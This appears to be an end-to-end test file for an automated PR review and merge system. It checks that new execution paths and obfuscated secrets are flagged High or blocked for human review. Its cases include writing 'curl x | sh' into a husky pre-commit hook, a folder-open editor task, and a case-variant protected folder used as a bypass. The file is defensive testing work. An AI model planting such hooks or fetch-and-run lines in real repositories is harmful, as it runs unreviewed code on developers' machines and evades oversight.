import { afterAll, beforeAll, expect, test } from "bun:test";
import { routes } from "../src/api/routes.ts";
import type { PullRequest } from "../src/prs/pr-types.ts";
import { FAKE } from "../src/review/reviewers/secret-fakes.ts";
import { Cluster } from "./helpers/cluster.ts";

/**
 * The review issue's gaps end to end, with Low PRs merging on their own: a change that adds a new way
 * for code to run (a git hook manager, an editor task, direnv, a container file in another letter case,
 * a protected folder in another case, a deleted protected file) is High and waits for people; a secret
 * in another shape than an AWS key (split, base64, an env file) is blocked by the review. (Lockfile
 * redirection and neutered tests have their own end-to-end files.)
 */

let c: Cluster;
beforeAll(async () => {
  c = await Cluster.create({
    configToml: `[checks]\ncommands = [{ name = "ok", run = "true" }]\n`,
    files: {
      "src/a.txt": "one\n",
      "src/auth/login.ts": "export const login = 1;\n",
      ".github/workflows/ci.yml": "on: push\n",
      ".pushpals/policy.toml": "[low]\nauto_merge = true\n",
    },
  });
  await c.startServer();
  await c.startWorker("w1");
  await c.startAgents();
}, 60_000);
afterAll(() => c.stop());

async function reviewed(n: number): Promise<PullRequest> {
  for (;;) {
    const p = (await c.client.call(routes.getPr, { params: { number: n } })).pr;
    if (p.review?.headSha === p.headSha && p.classification) return p;
    await Bun.sleep(25);
  }
}

const CASES: Array<{ name: string; command: string }> = [
  { name: "a husky hook", command: "mkdir -p .husky && echo 'curl x | sh' > .husky/pre-commit" },
  { name: "an editor task that runs on folder open", command: "mkdir -p .vscode && echo '{\"tasks\":[{\"runOptions\":{\"runOn\":\"folderOpen\"}}]}' > .vscode/tasks.json" },
  { name: "a direnv script", command: "echo 'export PATH=.:$PATH' > .envrc" },
  { name: "a container file in lower case", command: "echo 'FROM alpine' > dockerfile" },
  { name: "a protected folder in another letter case", command: "mkdir -p src/Auth && echo 'export const x = 1;' > src/Auth/bypass.ts" },
  { name: "a deleted CI workflow", command: "rm .github/workflows/ci.yml" },
];

const half = Math.floor(FAKE.stripeSecret.length / 2);
const SECRETS: Array<{ name: string; command: string; rule: string }> = [
  { name: "a Stripe key split over two lines", command: `printf 'const k = "${FAKE.stripeSecret.slice(0, half)}" +\\n  "${FAKE.stripeSecret.slice(half)}";\\n' > src/pay.ts`, rule: "stripe_secret_key" },
  { name: "a base64-encoded GitHub token", command: `echo 'export const blob = "${Buffer.from(FAKE.githubToken).toString("base64")}";' > src/blob.ts`, rule: "secretlint/github" },
  { name: "an env file", command: "echo 'API_URL=https://api.internal' > src/.env", rule: "env_file" },
];

for (const { name, command, rule } of SECRETS) {
  test(`${name} is blocked by the review and does not merge on its own`, async () => {
    const r = c.cli(["run", "--json", "--scope", "src/**", "--", command]);
    expect(r.stderr).toBe("");
    const pr = await reviewed((JSON.parse(r.stdout) as { pr: PullRequest }).pr.number);
    expect(pr.review?.decision).toBe("block");
    expect(pr.review?.findings.map((f) => f.rule)).toContain(rule);
    expect((await c.client.call(routes.listJobs, { query: { kind: "merge" } })).jobs).toHaveLength(0);
  }, 30_000);
}

for (const { name, command } of CASES) {
  test(`${name} is High and does not merge on its own`, async () => {
    const r = c.cli(["run", "--json", "--scope", "**", "--", command]);
    expect(r.stderr).toBe("");
    const pr = await reviewed((JSON.parse(r.stdout) as { pr: PullRequest }).pr.number);
    expect(pr.classification?.tier).toBe("high");
    const gate = await c.client.call(routes.prGate, { params: { number: pr.number } });
    expect(gate.ok).toBe(false);
    expect((await c.client.call(routes.listJobs, { query: { kind: "merge" } })).jobs).toHaveLength(0);
    expect((await c.client.call(routes.getPr, { params: { number: pr.number } })).pr.state).toBe("open");
    // Listings show the tier the review found, not the one the requester declared.
    const row = c.cli(["prs"]).stdout.split("\n").find((l) => l.startsWith(`${pr.number} `));
    expect(row).toContain("high (declared low)");
  }, 30_000);
}

test("the control: an ordinary Low change in the same repository merges on its own", async () => {
  const r = c.cli(["run", "--json", "--scope", "src/**", "--", "echo two >> src/a.txt"]);
  const n = (JSON.parse(r.stdout) as { pr: PullRequest }).pr.number;
  expect((await reviewed(n)).classification?.tier).toBe("low");
  for (;;) {
    const pr = (await c.client.call(routes.getPr, { params: { number: n } })).pr;
    if (pr.state === "merged") break;
    await Bun.sleep(25);
  }
}, 30_000);
